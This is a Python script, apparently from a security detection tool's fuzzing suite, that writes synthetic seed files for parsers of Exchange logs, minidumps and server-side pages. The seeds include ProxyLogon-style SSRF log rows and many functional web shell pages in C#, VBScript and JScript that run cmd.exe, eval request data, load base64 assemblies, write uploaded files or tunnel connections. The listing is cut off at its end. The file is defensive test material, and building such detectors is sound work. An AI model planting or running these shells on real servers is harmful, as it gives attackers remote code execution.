#!/usr/bin/env python3
"""Write the synthetic seed corpora under fuzz/corpus/<target>/.

Every seed is made up here (no real server's data); the output is
deterministic, so re-running the script reproduces the committed files.
Only the seeds named below are written: files that libFuzzer found and that
were added by hand (fuzz/corpus/<target>/<sha1>, crash-*) are left alone.

    python3 fuzz/make_corpus.py [CORPUS_ROOT]     (default: fuzz/corpus)
    python3 fuzz/make_corpus.py --evtx-crashes DIR

The second form writes the handwritten fuzz/corpus/evtx/crash-* inputs
(ev_crash_inputs) into DIR, to show how they were made; the first never
writes them.
"""
import io
import os
import struct
import sys
import zipfile
import zlib

BOM = b"\xef\xbb\xbf"

# ---------------------------------------------------------------- exlog --

HP_FIELDS = ("DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
             "ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,"
             "IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,"
             "ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,"
             "ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,"
             "BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,"
             "TotalRequestTime,UrlQuery,GenericInfo,GenericErrors")
HP_COLS = HP_FIELDS.split(",")


def hp_row(**kw):
    """One HttpProxy row: values by column name, everything else empty."""
    vals = []
    for c in HP_COLS:
        v = kw.get(c, "")
        vals.append(v)
    return ",".join(vals)


def q(s):
    """CSV-quote s (doubling quotes)."""
    return '"' + s.replace('"', '""') + '"'


def hp_prologue(version="15.01.2106.002", log_type="HttpProxy Logs", date="2021-03-03T02:00:00.000Z",
                plain=True):
    lines = []
    if plain:
        lines.append(HP_FIELDS)
    lines += ["#Software: Microsoft Exchange Server", "#Version: " + version,
              "#Log-type: " + log_type, "#Date: " + date, "#Fields: " + HP_FIELDS]
    return lines


UA_CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/88.0.4324.190 Safari/537.36")


def hp_rows_benign():
    return [
        hp_row(DateTime="2021-03-03T02:03:17.455Z", RequestId="0c1d2e3f-0000-4000-8000-000000000001",
               MajorVersion="15", MinorVersion="1", BuildVersion="2106", RevisionVersion="2",
               Protocol="Ecp", UrlHost="mail.example.test", UrlStem="/ecp/", AuthenticationType="FBA",
               IsAuthenticated="true", AuthenticatedUser="alice@example.test",
               AnchorMailbox="Smtp~alice@example.test", UserAgent=q(UA_CHROME),
               ClientIpAddress="10.0.1.21", ServerHostName="EXSRV01", HttpStatus="200",
               BackEndStatus="200", Method="GET", ProxyAction="Proxy",
               TargetServer="exsrv01.example.test", TotalRequestTime="31"),
        hp_row(DateTime="2021-03-03T02:05:00.001Z", RequestId="0c1d2e3f-0000-4000-8000-000000000002",
               MajorVersion="15", MinorVersion="1", BuildVersion="2106", RevisionVersion="2",
               Protocol="Ecp", UrlHost="mail.example.test", UrlStem="/ecp/DDI/DDIService.svc/GetList",
               UrlQuery=q("?schema=MessageTraceSummary&msExchEcpCanary=x\"y"),
               UserAgent=q('quoted "agent", with commas'), ClientIpAddress="10.0.1.22",
               ServerHostName="EXSRV01", HttpStatus="200", Method="POST",
               GenericInfo=q(""), GenericErrors=q('""')),
    ]


def hp_rows_attack():
    return [
        hp_row(DateTime="2021-03-03T02:11:05.120Z", RequestId="0c1d2e3f-0000-4000-8000-0000000000a1",
               MajorVersion="15", MinorVersion="1", BuildVersion="2106", RevisionVersion="2",
               Protocol="Ecp", UrlHost="mail.example.test", UrlStem="/ecp/y.js",
               AuthenticationType="", IsAuthenticated="false",
               AnchorMailbox="ServerInfo~a]@exsrv01.example.test:444/autodiscover/autodiscover.xml?#",
               UserAgent=q("ExchangeServicesClient/0.0.0.0"), ClientIpAddress="104.140.114.110",
               ServerHostName="EXSRV01", HttpStatus="200", Method="POST",
               BackEndCookie="Server~exsrv01.example.test~1942062522~ServerInfo~x"),
        hp_row(DateTime="2021-03-03T02:12:20.000Z", RequestId="0c1d2e3f-0000-4000-8000-0000000000a2",
               MajorVersion="15", MinorVersion="1", BuildVersion="2106", RevisionVersion="2",
               Protocol="Ecp", UrlStem="/ecp/y.js",
               AnchorMailbox="ServerInfo~a]@exsrv01.example.test:444/mapi/emsmdb?MailboxId=x&a=~1942062522",
               ClientIpAddress="203.0.113.7", HttpStatus="241", Method="POST"),
        hp_row(DateTime="2021-03-03T02:14:09.000Z", Protocol="Ecp", UrlStem="/ecp/y.js",
               AnchorMailbox="ServerInfo~a]@exsrv01.example.test:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=a",
               ClientIpAddress="203.0.113.7", HttpStatus="200", Method="POST"),
        hp_row(DateTime="2021-03-03T02:15:39.000Z", Protocol="Ecp", UrlStem="/ecp/y.js",
               AnchorMailbox="ServerInfo~a]@exsrv01.example.test:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=a",
               ClientIpAddress="203.0.113.7", HttpStatus="200", Method="POST"),
        hp_row(DateTime="2021-03-03T03:00:00.000Z", Protocol="Ecp", UrlStem="/ecp/x.js",
               AnchorMailbox="ServerInfo~localhost/ecp/default.flt", ClientIpAddress="198.51.100.9",
               HttpStatus="500", Method="GET"),
        hp_row(DateTime="2021-03-03T03:01:00.000Z", Protocol="Ecp", UrlStem="/ecp/exporttool/microsoft.exchange.ediscovery.exporttool.application",
               AnchorMailbox="ServerVersion~15.1.2106.2", HttpStatus="200", Method="GET"),
    ]


def crlf(lines, final=True):
    return ("\r\n".join(lines) + ("\r\n" if final else "")).encode()


def lf(lines, final=True):
    return ("\n".join(lines) + ("\n" if final else "")).encode()


ECP_FIELDS = "TimeStamp,ServerName,EventId,EventData"


def ecp_lines():
    return [
        "#Software: Microsoft Exchange Server", "#Version: 15.00.0000.000",
        "#Log-type: ECP Server Log", "#Date: 2021-03-03T00:00:00.000Z", "#Fields: " + ECP_FIELDS,
        "2021-03-03T00:42:13.207Z,EXSRV01,1," + q(
            "S:CMD=Get-InboxRule.Mailbox='alice@example.test';S:REQID=1;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList;S:BLD=15.1.2106.2"),
        "2021-03-03T02:15:02.198Z,EXSRV01,1," + q(
            "S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">"
            "function Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>'.Identity='x';S:REQID=2;"
            "S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:BLD=15.1.2106.2"),
        "2021-03-03T02:16:00.000Z,EXSRV01,1," + q(
            "S:CMD=Set-EcpVirtualDirectory.InternalUrl='https://mail.example.test/ecp';S:REQID=3"),
        "2021-03-03T02:17:00.000Z,EXSRV01,1," + q(
            "S:CMD=Set-OwaVirtualDirectory.ExternalUrl='%3Cb%3Ex%3C/b%3E';S:REQID=4"),
    ]


OAB_FIELDS = "DateTime,ProcessId,ThreadId,Level,Message"


def oab_lines():
    return [
        "#Software: Microsoft Exchange Server", "#Version: 15.01.2106.002",
        "#Log-type: OAB Generator Log", "#Date: 2021-03-03T00:00:00.000Z", "#Fields: " + OAB_FIELDS,
        "2021-03-03T00:05:00.114Z,6120,14,Information,OABGen: starting generation.",
        "2021-03-03T00:05:03.862Z,6120,14,Information," + q("Generated full OAB version 4: 412 entries, 0 errors."),
        "2021-03-03T00:05:04.019Z,6120,14,Warning,Download failed and temporary file "
        "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\9e2a\\oab.xml' needs to be removed.",
        "2021-03-03T02:16:03.455Z,6120,22,Warning,Download failed and temporary file "
        "'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed.",
        "2021-03-03T02:17:03.455Z,6120,22,Warning," + q(
            "Download failed and temporary file '\\\\evil\\share\\..\\x.ashx' needs to be removed."),
    ]


RPS_FIELDS = ("DateTime,StartTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
              "UrlHost,UrlStem,AuthenticationType,IsAuthenticated,AuthenticatedUser,ClientIpAddress,"
              "ServerHostName,HttpStatus,CommandId,CommandName,ClientInfo,UrlQuery,GenericInfo")


def rps_lines():
    return [
        RPS_FIELDS, "#Software: Microsoft Exchange Server", "#Version: 15.02.0792.003",
        "#Log-type: Rps Http Logs", "#Date: 2021-03-03T02:00:00.000Z", "#Fields: " + RPS_FIELDS,
        "2021-03-03T02:14:00.453Z,2021-03-03T02:14:00.453Z,r1,15,2,792,3,exsrv01.example.test,"
        "/powershell,Kerberos,true,EXAMPLE\\admin,10.0.0.5,EXSRV01,200,c1,Get-Mailbox,"
        "Microsoft WinRM Client,?serializationLevel=Full;clientApplication=ManagementShell,",
        "2021-03-03T02:24:33.999Z,2021-03-03T02:24:33.999Z,r2,15,2,792,3,exsrv01.example.test,"
        "/powershell,Kerberos,true,EXAMPLE\\admin,104.140.114.110,EXSRV01,200,c2,New-MailboxExportRequest,"
        + q("Microsoft WinRM Client, \"quoted\"") + ",?x=1,",
    ]


W3C_LINES = [
    "#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
    "#Date: 2021-03-03 00:03:11",
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
    "2021-03-03 00:03:11 10.0.0.25 GET /owa/ - 443 EXAMPLE\\alice 10.0.1.21 "
    "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 187",
    "2021-03-03 02:11:05 10.0.0.25 POST /ecp/y.js - 443 - 104.140.114.110 "
    "ExchangeServicesClient/0.0.0.0 - 200 0 0 180",
    "2021-03-03 02:18:27 10.0.0.25 POST /aspnet_client/discover.aspx - 443 - 203.0.113.7 "
    "Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html) - 200 0 0 412",
]


def exlog_seeds():
    s = {}
    s["httpproxy-bom-crlf.log"] = BOM + crlf(hp_prologue() + hp_rows_benign() + hp_rows_attack())
    s["httpproxy-lf-nobom.log"] = lf(hp_prologue(plain=False) + hp_rows_benign())
    # #Fields changes half way: other order, fewer columns, then an unknown set
    short = "DateTime,ClientIpAddress,AnchorMailbox,UrlStem,HttpStatus,Method"
    s["httpproxy-fields-change.log"] = crlf(
        hp_prologue(plain=False) + hp_rows_benign()[:1] + ["#Fields: " + short,
         "2021-03-03T04:00:00Z,203.0.113.7,ServerInfo~a]@x:444/ecp/proxyLogon.ecp?#,/ecp/y.js,241,POST",
         "#Fields: Foo,Bar,Baz", "1,2,3", "#Fields: " + HP_FIELDS] + hp_rows_attack()[1:3])
    # Exchange 2013: short header, alias column names, no #Version
    s["exchange2013-short.log"] = crlf([
        "#Software: Microsoft Exchange Server", "#Log-type: HttpProxy Logs",
        "#Fields: TimeStamp,ServerName,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
        "UrlStem,AnchorMailbox,ClientIpAddress,HttpStatus",
        "2021-03-02T23:59:59.999Z,EX2013,15,0,1497,2,/owa/,Smtp~bob@example.test,10.0.0.9,200",
        "2021-03-03T00:00:00Z,EX2013,15,0,847,32,/ecp/,ServerInfo~a]@b:444/autodiscover/x,10.0.0.9,200"])
    # truncated: unterminated quote, no final EOL, short rows
    s["truncated-rows.log"] = lf(hp_prologue(plain=False) + [
        "2021-03-03T05:00:00.000Z,id,15,1,2106,2,,Ecp,host,/ecp/,,,,,,ServerInfo~a]@b:444/mapi/emsmdb,\"Mozilla, unterminated",
        "2021-03-03T05:00:01.000Z,id,15",
        "2021-03-03T05:00:02.000Z",
        "\"2021-03-03T05:00:03.000Z\",\"id\",\"15\",\"1\",\"2106\",\"2\"",
        "2021-03-03T05:00:04.000Z,\"x\"junk,after"], final=False)
    s["ecp-server.log"] = BOM + crlf(ecp_lines())
    s["oab-generator.log"] = BOM + crlf(oab_lines())
    s["rps-http.log"] = BOM + crlf(rps_lines())
    s["plain-header-only.log"] = lf([HP_FIELDS] + hp_rows_benign() + hp_rows_attack()[:2])
    s["w3c-iis.log"] = crlf(W3C_LINES)
    # lone CR endings, mixed with CRLF and LF, blank lines
    s["mixed-eol.log"] = ("#Fields: DateTime,UrlStem,HttpStatus\r2021-03-03T01:00:00Z,/a,200\r\n"
                          "\r\r\n\n2021-03-03T01:00:01Z,/b,404\n\r2021-03-03T01:00:02Z,/c,500\r").encode()
    s["quotes-edge.log"] = lf([
        "#Fields: DateTime,UserAgent,UrlQuery,AnchorMailbox,HttpStatus",
        '"",""""""",""","","",',
        '2021-03-03T01:00:00Z,"a""b""c","""","x,y",200',
        '2021-03-03T01:00:01Z,"",,,',
        '2021-03-03T01:00:02Z,"a"b"c",q,r,s,t,u,v,w,,,',
        ",,,,,,,,,,,,,,,,,,,,", '"', '""', '"""', "a,\"b", ","])
    # a header row repeated as data (log rotation), duplicated column names
    s["header-repeat.log"] = lf([
        "#Fields: DateTime,DateTime,ClientIpAddress,clientipaddress, UrlStem ,\"HttpStatus\"",
        "2021-03-03T01:00:00Z,x,10.0.0.1,10.0.0.2,/owa/,200",
        "DateTime,DateTime,ClientIpAddress,clientipaddress,UrlStem,HttpStatus",
        "TimeStamp,ServerName,EventData",
        "2021-03-03T01:00:01Z,EX,data"])
    s["comments-only.log"] = lf(["#Software: x", "#Version:", "#Log-type:", "#Date:", "#Fields:",
                                 "#Fields: nothing,we,know", "#", "", "#Other: thing"])
    s["times.log"] = lf(["#Fields: DateTime,HttpStatus"] + [t + ",200" for t in [
        "2021-03-03T02:03:17.455Z", "2021-03-03 02:03:17", "2021-03-03", "2020-02-29T23:59:60Z",
        "2021-02-29T00:00:00Z", "1601-01-01T00:00:00+01:00", "9999-12-31T23:59:59.999-23:59",
        "2021-03-03T02:03:17.1234567+0530", "2021-03-03T02:03:17,5-05", "2021-13-01T00:00:00Z",
        "2021-03-03T24:00:00Z", "2021-03-03T02:03", "2021-03-03T02:03:17.Z", "  \"2021-03-03T02:03:17Z\"  ",
        "0000-00-00T00:00:00Z", "2021-03-03t02:03:17z", "2021-03-03T02:03:17+24:00"]])
    s["builds.log"] = lf([
        "#Software: Microsoft Exchange Server", "#Version: 15.02.0986.005",
        "#Fields: DateTime,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ServerHostName",
        "2021-03-03T01:00:00Z,15,2,986,5,EX19", "2021-03-03T01:00:01Z,0,0,0,0,EX",
        "2021-03-03T01:00:02Z,999999999,1,2,3,EX", "2021-03-03T01:00:03Z,1234567890,1,2,3,EX",
        "2021-03-03T01:00:04Z,15, 1 ,2106,2,EX", "2021-03-03T01:00:05Z,15,1,2106,,EX",
        "2021-03-03T01:00:06Z,14,3,123,4," + "S" * 300])
    s["bom-only.log"] = BOM
    s["version-variants.log"] = lf(["#Version: 15.1.2106.2.9", "#Fields: DateTime"]) + \
        lf(["#Version:  15.01.2106.002 ", "#Version: 4294967295.1.1.1", "2021-03-03T00:00:00Z"])
    return s


# ------------------------------------------------------------- minidump --

def md_string(s):
    b = s.encode("utf-16-le", "surrogatepass")  # lone surrogates on purpose
    return struct.pack("<I", len(b)) + b + b"\0\0"


def minidump(modules, streams=None, nstreams=None, count=None, stamp=0x60405262,
             extra_stream=True, name_len=None, name_rvas=None):
    """Header, directory, module list (108-byte modules), then the names."""
    hdr_size, ent = 32, 12
    n_dir = 2 if extra_stream else 1
    dir_rva = hdr_size
    ml_rva = dir_rva + n_dir * ent
    ml = struct.pack("<I", len(modules) if count is None else count)
    names_rva = ml_rva + 4 + 108 * len(modules)
    names = b""
    mods = b""
    for i, m in enumerate(modules):
        rva = names_rva + len(names)
        sb = md_string(m)
        if name_len is not None:
            sb = struct.pack("<I", name_len) + sb[4:]
        names += sb
        if name_rvas is not None:
            rva = name_rvas[i]
        mod = struct.pack("<QIII", 0x7ff600000000 + i * 0x100000, 0x10000, 0, 0x5f8e1c20)
        mod += struct.pack("<I", rva)  # ModuleNameRva at offset 20
        mod += b"\0" * (108 - len(mod))
        mods += mod
    body = ml + mods + names
    d = struct.pack("<III", 4, len(body), ml_rva)
    if extra_stream:
        d += struct.pack("<III", 7, 56, 0)  # SystemInfo pointing nowhere useful
    if streams is not None:
        d = streams
    hdr = struct.pack("<IIIIIIQ", 0x504D444D, 0xA793, n_dir if nstreams is None else nstreams,
                      dir_rva, 0, stamp, 0x2)
    return hdr + d + body


LSASS = "C:\\Windows\\System32\\lsass.exe"


def minidump_seeds():
    s = {}
    s["valid-lsass.dmp"] = minidump([LSASS, "C:\\Windows\\System32\\ntdll.dll"])
    s["valid-other.dmp"] = minidump(["C:\\Program Files\\app\\w3wp.exe", "C:\\x\\notlsass.exe"])
    s["lsass-variants.dmp"] = minidump(["LSASS.EXE", "/tmp/lsass.exe", "lsass.exe.bak", "xlsass.exe"])
    s["huge-counts.dmp"] = minidump([LSASS], nstreams=0xFFFFFFFF, count=0xFFFFFFFF)
    s["stream-count-4097.dmp"] = minidump([LSASS], nstreams=4097)
    v = bytearray(minidump([LSASS]))
    struct.pack_into("<I", v, 12, 0xFFFFFFF0)  # directory RVA past the end
    s["dir-rva-past-end.dmp"] = bytes(v)
    v = bytearray(minidump([LSASS]))
    struct.pack_into("<I", v, 32 + 8, len(v) - 2)  # module list RVA: 2 bytes before the end
    s["modlist-rva-near-end.dmp"] = bytes(v)
    s["name-rva-past-end.dmp"] = minidump([LSASS, "ntdll.dll"], name_rvas=[0xFFFFFFFF, 0x7FFFFFF0])
    s["name-rva-in-header.dmp"] = minidump([LSASS], name_rvas=[0])
    s["odd-string-len.dmp"] = minidump([LSASS], name_len=0x3B)
    s["string-len-too-big.dmp"] = minidump([LSASS], name_len=0x10001)
    s["string-len-past-end.dmp"] = minidump([LSASS], name_len=0x400)
    long_name = "C:\\" + "\u00e9\u4e2d\U0001F600" * 60 + "\\lsass.exe"
    s["non-bmp-long-name.dmp"] = minidump([long_name, "\ud800x\udc00"])
    # same module list named twice by the directory
    base = minidump([LSASS], extra_stream=True)
    v = bytearray(base)
    struct.pack_into("<III", v, 32 + 12, 4, 0, 32 + 24)
    s["dup-module-stream.dmp"] = bytes(v)
    s["header-only.dmp"] = struct.pack("<IIIIIIQ", 0x504D444D, 0xA793, 0, 0, 0, 0, 0)
    s["truncated-in-module.dmp"] = minidump([LSASS])[:32 + 24 + 4 + 60]
    s["signature-only.dmp"] = b"MDMP"
    s["not-mdmp.dmp"] = b"MDMX" + b"\0" * 60
    s["zero-stamp.dmp"] = minidump([LSASS], stamp=0)
    return s


# ---------------------------------------------------------------- match --

def match_seeds():
    s = {}
    s["needles-all-cases.txt"] = (
        b"serverinfo~ SERVERINFO~ ServerVersion~ #Fields: #FIELDS:\n"
        b"Download Failed And Temporary File\nSet-OabVirtualDirectory VIRTUALDIRECTORY\n"
        b"104.140.114.110 autodiscover.json AUTODISCOVER.JSON exec EXEC @corp.example [obj] "
        b"download failed\n")
    s["near-misses.txt"] = (
        b"serverinf~ serverinfo `corp.example {obj] [obj} 104.140.114.11 virtualdirector "
        b"#field: download failed and temporary fil autodiscover.jso exe` `xec\n")
    s["overlaps.txt"] = (b"serverserverinfo~~ #fields#fields: virtualvirtualdirectorydirectory "
                         b"104.140.114.104.140.114.110 execexec DOWNLOAD FAILEDdownload failed and temporary file")
    s["needle-at-end.txt"] = b"x" * 61 + b"104.140.114.110"
    s["needle-at-start.txt"] = b"serverinfo~" + b"-" * 40
    s["binary.bin"] = bytes(range(256)) + b"\0serverinfo~\0\xff#fields:\xc0\x80exec"
    s["tiny-3.bin"] = b"exe"
    s["tiny-4.bin"] = b"EXEC"
    s["empty"] = b""
    # first byte: 0xC3 -> 4 dynamic needles, find_ci needle of 0xC3 % 9 = 6 bytes
    s["dynamic-needles.bin"] = bytes([0xC3, 1, 2, 3, 4]) + b"abcdefghij" * 4 + b"ABCDE abcdef zzzz"
    s["dynamic-one.bin"] = bytes([0x00, 0x00]) + b"ssrf" + b"xxSSRFxxssrfx"
    s["http-line.txt"] = (hp_rows_attack()[0] + "\r\n" + hp_rows_benign()[1] + "\r\n").encode()
    s["ecp-line.txt"] = ("\n".join(ecp_lines()) + "\n").encode()
    return s


# ----------------------------------------------------------------- code --
# Byte 0 % 3 is the default language (C#, JScript, VB); the rest is the page.
# Every page here is made up for these tests: the shapes follow public
# descriptions of Exchange web shells, the code is not taken from any.

CS, JS, VB = 0, 1, 2

PAGE_CS = r"""<%@ Page Language="C#" Debug="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<%-- a server comment: <% Process.Start("never"); %> --%>
<html><body>
<script>var client = "<%= Request.QueryString["q"] %>"; // client side</script>
<%
    // line comment with "quotes" and <% tags %>
    /* block comment
       spanning lines */
    string cmd = Request.Form["c"];
    string esc = "tab\there \"quoted\" \\ back \x41\u0042\u00e9 \0 nul \q";
    string verb = @"C:\inetpub\wwwroot\""aspnet_client""\x.aspx";
    char ch = '\'';
    var @class = 0x1F + 1.5e3 + 42L;
    ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + cmd);
    psi.UseShellExecute = false;
    Process.Start(psi);
    if (cmd == null) { Response.Write("<b>" + DateTime.Now + "</b>"); }
%>
<%# Eval("Name") %><%: Html %><%$ AppSettings:x %>
</body></html>
"""

PAGE_JS = """<%@ Page Language="Jscript" %>
<script runat="server" language="JScript">
function Page_Load() {
  var p = Request.Item["p"];
  eval(p, "unsafe");
}
</script>
<script language="javascript">alert('client only: <% Response.Write(1) %>');</script>
"""

PAGE_VB = """<%@ Language=VBScript %>
<%
Option Explicit
Dim cmd, sh : cmd = Request("cmd")
REM a comment line with "strings"
' another comment
Set sh = Server.CreateObject("WScript.Shell")
Dim out : out = sh.Exec("cmd /c " & cmd).StdOut.ReadAll()
Response.Write "<pre>" & Server.HTMLEncode(out) & "</pre>" ' trailing comment
x = "a ""doubled"" quote" : y = Chr(60) & Chr(37) & Chr(32) & Chr(37) & Chr(62) & Chr(65) & Chr(66) & Chr(67)
If Request("k") = "s3cr3tpass" Then Execute(Request("c"))
%>
"""

SOURCE_ASHX = """<%@ WebHandler Language="C#" Class="Handler" %>
using System;
using System.Web;
using System.Reflection;
public class Handler : IHttpHandler {
    public void ProcessRequest(HttpContext ctx) {
        byte[] b = Convert.FromBase64String(ctx.Request["d"]);
        Assembly.Load(b).CreateInstance("X").Equals(ctx);
        System.IO.File.WriteAllBytes(ctx.Request["p"], b);
    }
    public bool IsReusable { get { return false; } }
}
"""

SOURCE_VB = """Imports System.Net.Sockets
Public Class Tunnel
  Sub Run(ByVal ctx As System.Web.HttpContext)
    Dim host As String = ctx.Request("h") : Dim c As New TcpClient()
    c.Connect(host, 443) ' a comment
    REM done
  End Sub
End Class
"""

OBFUSCATED_JS = """<%@ Page Language="JScript" %><%
var _0x1a2b = ["\\x65\\x76\\x61\\x6c", "\\u0052equest"], _0x3c4d = 1, _0x5e6f = 2, _0xabcd = 3;
var s = String.fromCharCode(101, 118, 97, 108, 40, 41, 59);
this[_0x1a2b[0]](_0x3c4d + _0x5e6f);
%><script runat=server>#@~^CAAAAA==W!x^DkKxfR4AAA==^#~@</script>
"""

# more techniques, one page each (all made up)
TECHNIQUE_PAGES = {
    "cs-process-config.aspx": (CS, """<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    var p = new System.Diagnostics.Process();
    p.StartInfo.FileName = "cmd.exe";
    p.StartInfo.Arguments = "/c " + Request.Form["a"];
    p.Start();
    foreach (string k in Request.Form.AllKeys) { Response.Write(k); }
    foreach (var v in Request.QueryString) { Trace.Write(v.ToString()); }
}
</script>
"""),
    "cs-file-writes.aspx": (CS, """<%@ Page Language="C#" %><%
string path = Request["p"]; byte[] data = Convert.FromBase64String(Request["d"]);
System.IO.File.WriteAllBytes(path, data);
using (var fs = new System.IO.FileStream(Request["q"], System.IO.FileMode.Create)) { Request.InputStream.CopyTo(fs); }
System.IO.File.Copy(Request["src"], Request["dst"]); File.Move(a, Request["m"]);
Request.Files[0].SaveAs(Server.MapPath("~/") + Request.Files[0].FileName);
string safe = Path.GetFileName(Request["n"]); File.WriteAllText(safe, "x");
int n = int.Parse(Request["i"]); s += n; x -= 1; y *= 2; z ??= Request["z"];
%>"""),
    "vb-adodb-stream.asp": (VB, """<%
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 1 : st.Open : st.Write Request.BinaryRead(Request.TotalBytes)
st.SaveToFile Server.MapPath(Request.QueryString("f")), 2
Set fso = CreateObject("Scripting.FileSystemObject")
fso.CreateTextFile(Request("t")).Write Request("c")
ExecuteGlobal Chr(101) & Chr(120) & Chr(101) & Chr(99) & Chr(117) & Chr(116) & Chr(101) & Chr(32) & Chr(120)
Eval(Request.Form("e"))
%>"""),
    "js-decode-eval.aspx": (JS, """<%@ Page Language="JScript" %><%
var b = System.Convert.FromBase64String(Request.Item["x"]);
var s = System.Text.Encoding.UTF8.GetString(b);
eval(s, "unsafe");
var t = String.fromCharCode(101, 118, 97, 108, 40, 41, 59, 32);
eval(t);
var u = unescape("%65%76%61%6c"); new ActiveXObject("WScript.Shell").Run(Request.Item["c"]);
%>"""),
    "cs-xor-load.aspx": (CS, """<%@ Page Language="C#" %><%
byte[] k = Convert.FromBase64String(Request.Form["k"]);
byte[] b = new byte[k.Length];
for (int i = 0; i < k.Length; i += 2) { b[i] = (byte)(k[i] ^ 0x5A); }
System.Reflection.Assembly.Load(b).CreateInstance("U").Equals(this);
AppDomain.CurrentDomain.Load(Request.BinaryRead(Request.ContentLength));
var cp = new Microsoft.CSharp.CSharpCodeProvider();
cp.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), Request["src"]);
byte[] d = new byte[16], e2 = new byte[16];
Array.Copy(Request.BinaryRead(16), d, 16); Buffer.BlockCopy(k, 0, e2, 0, 4);
var f = Assembly.Load; eval; Assembly.Load(e2);
%>"""),
    "js-decode-only.aspx": (JS, """<%@ Page Language="JScript" %><%
var code = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("cmV0dXJuIDE7"));
eval(code);
%>"""),
    "cs-tunnel.ashx": (CS, """<%@ WebHandler Language="C#" Class="T" %>
using System.Net.Sockets;
public class T : System.Web.IHttpHandler {
  public void ProcessRequest(System.Web.HttpContext ctx) {
    string host = ctx.Request.Headers["X-Host"];
    var c = new TcpClient(); c.Connect(host, int.Parse(ctx.Request.Headers["X-Port"]));
    var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
    s.BeginConnect(ctx.Request["h"], 80, null, null);
  }
  public bool IsReusable { get { return false; } }
}
"""),
    "cs-password-gate.aspx": (CS, """<%@ Page Language="C#" %><%
if (FormsAuthentication.HashPasswordForStoringInConfigFile(Request["pw"], "MD5") == "0123456789ABCDEF0123456789ABCDEF") {
    eval(Request["c"]);
}
else if (Request.Headers["X-K"] != "opensesame") { Response.End(); }
if (string.Equals(Request["k"], "letmein!")) { Process.Start(Request["x"]); }
%>"""),
    "js-hex-names.aspx": (JS, """<%@ Page Language="JScript" %><%
var _0x12ab = ['\\x52\\x65\\x71'], _0x34cd = _0x12ab[0], _0x56ef = 'Item', _0xAB12 = this;
_0xAB12[_0x34cd][_0x56ef]('x'); eval(_0x34cd + _0x56ef);
%>"""),
}

def utf16le(text, bom=True):
    return (b"\xff\xfe" if bom else b"") + text.encode("utf-16-le")


def utf16be(text, bom=True):
    return (b"\xfe\xff" if bom else b"") + text.encode("utf-16-be")


def code_seeds():
    s = {}
    s["cs-page.aspx"] = bytes([CS]) + PAGE_CS.encode()
    s["cs-page-crlf-bom.aspx"] = bytes([CS]) + BOM + PAGE_CS.replace("\n", "\r\n").encode()
    s["js-runat-server.aspx"] = bytes([JS]) + PAGE_JS.encode()
    s["vb-classic.asp"] = bytes([VB]) + PAGE_VB.encode()
    s["vb-page-as-csharp.asp"] = bytes([CS]) + PAGE_VB.encode()
    s["cs-handler.ashx"] = bytes([CS]) + SOURCE_ASHX.encode()
    s["vb-source.vb"] = bytes([VB]) + SOURCE_VB.encode()
    s["js-obfuscated.aspx"] = bytes([JS]) + OBFUSCATED_JS.encode()
    for name, (lang, page) in TECHNIQUE_PAGES.items():
        s[name] = bytes([lang]) + page.encode()
    s["escapes.cs"] = bytes([CS]) + b"<% a = \"\\n\\r\\t\\0\\xZZ\\x\\u\\uD800\\uFFFF\\u12G\\\"\\'\"; %>"
    s["utf16le-nul-units"] = bytes([CS]) + utf16le("<% a\0b = \"c\0d\" %>") + b"\0\0" * 8
    s["utf16le-bom.aspx"] = bytes([CS]) + utf16le(PAGE_JS)
    s["utf16le-nobom.aspx"] = bytes([CS]) + utf16le(PAGE_CS[:600], bom=False)
    s["utf16be-bom.asp"] = bytes([VB]) + utf16be(PAGE_VB)
    s["utf16be-nobom.asp"] = bytes([VB]) + utf16be(PAGE_VB[:300], bom=False)
    s["utf16le-odd-length-surrogates"] = bytes([CS]) + utf16le("<% x = \"\U0001F600\" %>") + \
        b"\x00\xd8\x41\x00\x00\xdc<" + b"\x00"
    s["utf16le-bom-only"] = bytes([CS]) + b"\xff\xfe"
    s["utf16be-bom-odd"] = bytes([CS]) + b"\xfe\xff\x00"
    # ASCII text inside binary, as UTF-16LE at both alignments (PST/DER drops)
    script = utf16le('<%@ Page Language="C#" %><% eval(Request["x"]); %>', bom=False)
    s["pst-drop-utf16-even"] = bytes([CS]) + b"!BDN" + b"\x01\x02" * 20 + script + b"\xff" * 9
    s["der-drop-utf16-odd"] = bytes([CS]) + b"\x30\x82\x01" + script + b"\x00\x80" * 5
